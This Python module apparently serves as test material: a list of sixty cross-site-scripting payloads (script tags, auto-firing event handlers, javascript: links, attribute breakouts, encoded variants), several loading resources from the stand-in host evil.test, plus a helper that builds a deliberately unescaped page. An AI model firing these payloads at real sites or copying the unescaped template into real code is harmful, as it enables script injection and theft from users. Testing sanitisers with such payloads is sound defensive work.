"""Sixty texts that run a script, or reach another host, wherever a page shows one of them as markup.

Each calls xss(1) or asks evil.test for something. The last four become markup only when somebody decodes them.
"""

import html
import unicodedata
from urllib.parse import unquote

EVIL = "evil.test"
PAYLOADS = [
    # Scripts
    "<script>xss(1)</script>",
    "<ScRiPt>xss(1)</sCrIpT>",
    "<script/x>xss(1)</script >",
    "<<script>xss(1)//<</script>",
    "<script>xss(1)\u2028</script",
    "<script src=data:,xss(1)></script>",
    "<script src=//evil.test/1.js></script>",
    "<svg><script>xss(1)</script></svg>",
    # Something that happens by itself
    "<img src=x onerror=xss(1)>",
    '<IMG/SRC="x"/ONERROR=xss(1)>',
    "<img src=x: onerror\t=\txss(1)>",
    "<svg onload=xss(1)>",
    "<svg/onload=xss(1)//",
    "<svg><animate onbegin=xss(1) attributeName=x dur=1s>",
    "<body onload=xss(1)>",
    "<body onpageshow=xss(1)>",
    "<input autofocus onfocus=xss(1)>",
    "<select autofocus onfocus=xss(1)>",
    "<textarea autofocus onfocus=xss(1)>",
    "<details open ontoggle=xss(1)>",
    "<video src=x onerror=xss(1)>",
    "<video><source onerror=xss(1)></video>",
    "<audio src=x onerror=xss(1)>",
    "<marquee onstart=xss(1)>x</marquee>",
    "<style onload=xss(1)></style>",
    # Frames, and what loads from elsewhere
    "<iframe src=javascript:xss(1)></iframe>",
    '<iframe srcdoc="<script>parent.xss(1)</script>"></iframe>',
    "<iframe onload=xss(1)></iframe>",
    "<iframe src=//evil.test/></iframe>",
    "<object data=//evil.test/1></object>",
    "<embed src=//evil.test/1>",
    "<base href=//evil.test/>",
    '<meta http-equiv=refresh content="0;url=//evil.test/">',
    "<link rel=stylesheet href=//evil.test/1.css>",
    '<style>@import "//evil.test/1.css";</style>',
    "<p style=background:url(//evil.test/1)>x</p>",
    # Something to press
    "<a href=javascript:xss(1)>x</a>",
    '<a href="java&#10;script:xss(1)">x</a>',
    '<a href="&#14; javascript:xss(1)">x</a>',
    "<svg><a xlink:href=javascript:xss(1)><text y=9>x</text></a></svg>",
    "<form action=javascript:xss(1)><button>x</button></form>",
    "<form action=//evil.test/><input name=a></form>",
    "<button formaction=javascript:xss(1)>x</button>",
    # Out of where it stands
    '"><script>xss(1)</script>',
    "'><script>xss(1)</script>",
    '" autofocus onfocus=xss(1) x="',
    "' autofocus onfocus=xss(1) x='",
    "x onmouseover=xss(1) x",
    "</title><script>xss(1)</script>",
    "</textarea><script>xss(1)</script>",
    "</style><script>xss(1)</script>",
    "</script><script>xss(1)</script>",
    "--><script>xss(1)</script>",
    "';xss(1);//",
    '";xss(1);//',
    "javascript:xss(1)",
    # Markup only when decoded
    "＜script＞xss(1)＜/script＞",
    "&lt;img src=x onerror=xss(1)&gt;",
    r"\u003cimg src=x onerror=xss(1)\u003e",
    "%3Csvg onload=xss(1)%3E",
]


def decoded(payload: str) -> list[str]:
    """What a careless page might make of it."""
    escaped = payload.replace("\\u003c", "<").replace("\\u003e", ">")
    return [unicodedata.normalize("NFKC", payload), html.unescape(payload), escaped, unquote(payload)]


def planted(number: int, turn: int) -> str:
    """All of them in a row, each calling xss with this number, another one first at each turn."""
    first = turn * 10 % len(PAYLOADS)
    return "\n".join(PAYLOADS[first:] + PAYLOADS[:first]).replace("xss(1)", f"xss({number})")


def careless_page(payload: str) -> str:
    """A page that shows it as markup, everywhere where a text may stand; nothing protects it."""
    said = "\n".join([payload, *decoded(payload)])
    return (
        f"<!DOCTYPE html><title>{said}</title><body>{said}<p title=\"{payload}\"><input value='{payload}'>"
        f'<b id={payload}></b><textarea>{payload}</textarea><a href="{payload}">x</a>'
        f"<script>var x = '{payload}'</script><script>var y = \"{payload}\"</script><!-- {payload} -->"
        f"<style>{payload}</style><form><input></form>"
    )
